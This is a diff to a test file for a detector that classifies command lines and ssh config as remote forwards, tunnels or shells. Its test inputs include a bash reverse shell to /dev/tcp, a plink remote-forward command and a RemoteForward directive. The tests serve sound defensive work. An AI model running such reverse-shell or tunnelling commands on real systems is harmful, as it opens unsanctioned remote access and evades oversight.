@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest"
-import { aProcess } from "../../testing/detector-run.js"
 import { requestOf, requestOfRenamed } from "./judge.js"
+import { aProcess } from "../../testing/processes.js"
 
 const line = (text: string) => requestOf(aProcess(text.split(" ")))
 const code = (...argv: string[]) => requestOf(aProcess(argv))
@@ -31,7 +31,6 @@ describe("tools by their arguments", () => {
     expect(line("plink -ssh -P 443 -N -R 8080:localhost:80 host")).toMatchObject({
       tool: "plink",
       spellings: ["-R 8080:localhost:80"],
-      destination: "host",
     })
   })
 })
@@ -97,8 +96,8 @@ describe("shells in arguments", () => {
     ["python3", "serve.py", "-c", "socket connect dup2 /bin/sh"],
     ["python3", "-c", "import subprocess;subprocess.run(['sh','-c','ls'])"],
   ])("but not in %s %s %s", (...argv) => {
-    const asked = code(...argv)
-    expect(asked?.kind).not.toBe("shell")
+    const request = code(...argv)
+    expect(request?.kind).not.toBe("shell")
   })
 })
 
@@ -109,13 +108,13 @@ describe("configuration files", () => {
   ]
 
   it("are named with the directive that counts", () => {
-    const asked = requestOf(aProcess(["ssh", "-N", "host"], { sshForwards: forwards }))
-    expect(asked).toMatchObject({
+    const request = requestOf(aProcess(["ssh", "-N", "host"], { sshForwards: forwards }))
+    expect(request).toMatchObject({
       kind: "remote-forward",
       spellings: ["RemoteForward 8080 localhost:80"],
       confidence: 0.8,
     })
-    expect(asked?.evidence).toMatchObject([
+    expect(request?.evidence).toMatchObject([
       { kind: "config-file", facts: { path: "/home/agent/.ssh/config", directive: "RemoteForward 8080 localhost:80" } },
     ])
   })
@@ -138,6 +137,6 @@ it("is not led astray by what a client calls itself", () => {
 })
 
 it("cuts long code in evidence", () => {
-  const asked = code("bash", "-c", `bash -i >& /dev/tcp/h/1 0>&1 ${"x".repeat(5000)}`)
-  expect(String(asked?.evidence[0].facts["argv"]).length).toBeLessThan(310)
+  const request = code("bash", "-c", `bash -i >& /dev/tcp/h/1 0>&1 ${"x".repeat(5000)}`)
+  expect(String(request?.evidence[0].facts["argv"]).length).toBeLessThan(310)
 })
